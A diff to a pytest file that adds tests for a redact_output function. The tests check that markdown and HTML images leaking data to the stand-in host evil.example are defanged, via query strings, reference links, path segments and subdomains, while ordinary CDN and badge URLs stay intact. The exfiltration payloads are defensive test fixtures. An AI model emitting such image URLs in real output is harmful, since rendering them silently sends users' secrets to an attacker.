@@ -7,7 +7,7 @@ from __future__ import annotations
 
 import pytest
 
-from kb_mcp.redact import redact
+from kb_mcp.redact import redact, redact_output
 
 # --- N1: identifier-shaped values are code only when they read like code -----------------------
 RANDOM_IDENTIFIERS = [
@@ -141,3 +141,41 @@ def test_redact_disguised_key_changes_only_the_value() -> None:
         "x\u200by = 1\np\u0430ss\u200bword = [REDACTED:password]  # note\n"
         "\uff54\uff4f\uff4b\uff45\uff4e: [REDACTED:token]\nend"
     )
+
+
+# --- item 6 leftovers: reference-style images, payloads in the path or the host -----------------
+EXFIL = [
+    ("![s][r2]\n\n[r2]: https://evil.example/p.png?d=SECRETDATA12", "evil.example"),
+    ('![s][]\n\n[S]: <https://evil.example/p.png?d=SECRETDATA12> "t"', "evil.example"),
+    ("![s]\n\n  [s]:\n  https://evil.example/p.png?d=SECRETDATA12", "evil.example"),
+    ("![z](https://evil.example/U0VDUkVU.REFUQTU.eHl6.png)", "U0VDUkVU"),
+    ('<img src="https://U0VDUkVUREFUQTU.eHl6QUJDREVGR0g.evil.example/x.png">', "U0VDUkVU"),
+    ("![z](https://evil.example/a/U0VDUkVUREFUQTUx/b.png)", "U0VDUkVU"),
+    ("<div style=\"background:url('//evil.example/eHl6QUJD/REVGR0g1.gif')\">", "eHl6QUJD"),
+]
+EXFIL_TWINS = [
+    "![s][r2]\n\n[r2]: https://example.com/p.png",
+    "[docs][r2]\n\n[r2]: https://example.com/search?q=fts5",
+    "![logo](https://cdn.example.com/static/app.3f9a8c7b.png)",
+    "![shot](https://user-images.githubusercontent.com/1234567/98765432-0a1b2c3d-4e5f.png)",
+    "![badge](https://img.shields.io/badge/Python-3.11-blue.svg)",
+    "![cat](https://i.imgur.com/AbC1dEf.png)",
+    '<img src="https://example.com/images/Screenshot2024.png">',
+    "[link](https://evil.example/U0VDUkVU.REFUQTU.eHl6.html)",
+]
+
+
+@pytest.mark.parametrize(("attack", "payload"), EXFIL)
+def test_redact_output_defangs_reference_and_path_payload_images(attack: str, payload: str) -> None:
+    """issue 7 item 6: a reference-style image and data hidden in the path or host are caught."""
+    result = redact_output(attack)
+    assert payload not in result.text
+    assert "exfil_url" in result.kinds
+    assert result.text.count("\n") == attack.count("\n")
+    assert redact_output(result.text).count == 0
+
+
+@pytest.mark.parametrize("text", EXFIL_TWINS)
+def test_redact_output_keeps_ordinary_image_urls(text: str) -> None:
+    """issue 7 item 6: CDN hashes, short ids, badges without a query and links stay."""
+    assert redact_output(text).text == text
